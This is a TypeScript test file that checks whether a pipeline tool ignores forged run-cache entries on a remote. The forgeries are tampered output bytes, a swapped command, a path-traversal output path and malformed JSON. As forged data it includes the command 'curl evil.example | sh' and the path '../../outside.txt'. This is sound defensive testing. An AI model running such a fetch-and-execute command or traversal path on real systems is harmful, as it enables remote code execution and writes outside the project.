/**
 * A remote's run cache is outside data: an entry tagged `mk-run-<key>` is checked before any
 * of its outputs is used. Here a remote (an OCI layout) serves, under the real key, an entry
 * whose output is other bytes than it claims, an entry about other inputs, and a tag that
 * names no entry at all: each time mk ignores the entry, runs the stage, and writes the right
 * output; nothing outside the stage's outputs is touched.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/content/storage.js';
import { MediaType } from '../../../src/content/media-types.js';
import { sha256 } from '../../../src/hashing/digest.js';
import { entryBytes, entryManifest, readEntry, RUN_ENTRY_MEDIA_TYPE, RUN_TAG_PREFIX, type RunEntry } from '../../../src/pipeline/run-cache.js';
import { openLayoutStore } from '../../../src/stores/open.js';
import { git, makeRepo, mk, mkRun } from '../../support/repo.js';

describe('a hostile run cache on the remote', () => {
  let r: { dir: string; cleanup: () => void };
  let key: string;
  let real: RunEntry;
  let realLayers: Array<{ mediaType: string; digest: string; size: number }>;
  const remote = () => join(r.dir, '..', `${r.dir.split('/').pop()}-remote`);
  const trace = () => join(r.dir, '..', `${r.dir.split('/').pop()}.trace`);

  beforeAll(() => {
    r = makeRepo();
    writeFileSync(join(r.dir, 'in.txt'), 'input\n');
    writeFileSync(join(r.dir, 'dvc.yaml'), 'stages:\n  double:\n    cmd: cat in.txt in.txt > out.txt && echo ran >> "$TRACE"\n    deps: [in.txt]\n    outs: [out.txt]\n');
    mk(r.dir, 'remote', 'add', 'origin', remote());
    expect(mkRun(r.dir, ['repro'], { TRACE: trace() }).status).toBe(0);
    git(r.dir, 'add', '-A');
    git(r.dir, 'commit', '-qm', 'run');
    expect(mk(r.dir, 'push')).toContain('pushed 1 run cache entry');
  });
  afterAll(() => {
    rmSync(remote(), { recursive: true, force: true });
    rmSync(trace(), { force: true });
    r?.cleanup();
  });

  /** The remote's entry for the stage, and a way to tag a forged one in its place. */
  async function forge(change: (e: RunEntry) => Buffer | RunEntry, extraBlob?: Buffer): Promise<void> {
    const store = openLayoutStore(remote());
    const tags = (await store.tags()).filter((t) => t.startsWith(RUN_TAG_PREFIX));
    expect(tags).toHaveLength(1);
    key = tags[0]!.slice(RUN_TAG_PREFIX.length);
    if (!real) {
      const got = await readEntry(store, await store.resolve(tags[0]!), key);
      if (typeof got === 'string') throw new Error(got);
      real = got.entry;
      realLayers = got.manifest.layers;
    }
    const layers = [...realLayers];
    if (extraBlob) {
      const d = { mediaType: MediaType.octet, digest: sha256(extraBlob), size: extraBlob.length };
      await store.push(d, bufferSource(extraBlob));
      layers.push(d);
    }
    const forged = change(structuredClone(real));
    const cfg = Buffer.isBuffer(forged) ? forged : entryBytes(forged);
    const config = { mediaType: RUN_ENTRY_MEDIA_TYPE, digest: sha256(cfg), size: cfg.length };
    await store.push(config, bufferSource(cfg));
    const man = entryManifest(config, layers, Buffer.isBuffer(forged) ? real : forged);
    const desc = { mediaType: MediaType.ociManifest, digest: sha256(man), size: man.length };
    await store.push(desc, bufferSource(man));
    await store.tag(desc, RUN_TAG_PREFIX + key);
  }

  /** Deletes the output and this clone's run cache index, so the remote's entry is what mk finds; returns whether the stage ran. */
  function reproFromRemote(): { ran: boolean; out: string; stdout: string } {
    rmSync(join(r.dir, 'out.txt'), { force: true });
    rmSync(join(r.dir, '.git', 'mk', 'run-cache'), { recursive: true, force: true });
    writeFileSync(trace(), '');
    const res = mkRun(r.dir, ['repro'], { TRACE: trace() });
    expect(res.status, res.stderr).toBe(0);
    return { ran: readFileSync(trace(), 'utf8').includes('ran'), out: readFileSync(join(r.dir, 'out.txt'), 'utf8'), stdout: res.stdout };
  }

  it('the real entry restores the output without running', async () => {
    await forge((e) => e); // the same entry: re-tagged as it was
    const x = reproFromRemote();
    expect(x.ran).toBe(false);
    expect(x.out).toBe('input\ninput\n');
  });

  it('an entry whose output is other bytes than its md5 says is ignored, and the stage runs', async () => {
    const evil = Buffer.from('evil\n');
    await forge((e) => {
      e.outs[0]!.pointer = { type: 'file', digest: sha256(evil), size: evil.length };
      return e;
    }, evil);
    const x = reproFromRemote();
    expect(x.ran).toBe(true);
    expect(x.out).toBe('input\ninput\n');
  });

  it('an entry about other inputs, served under this key, is ignored', async () => {
    await forge((e) => {
      e.inputs.cmd = 'curl evil.example | sh';
      return e;
    });
    expect(reproFromRemote().ran).toBe(true);
  });

  it('an entry that names another output path is ignored (paths come from dvc.yaml)', async () => {
    await forge((e) => {
      e.outs[0]!.path = '../../outside.txt';
      return e;
    });
    const x = reproFromRemote();
    expect(x.ran).toBe(true);
    expect(() => readFileSync(join(r.dir, '..', '..', 'outside.txt'))).toThrow();
  });

  it('a tag that names no entry (not JSON) is ignored', async () => {
    await forge(() => Buffer.from('{not json'));
    expect(reproFromRemote().ran).toBe(true);
  });
});
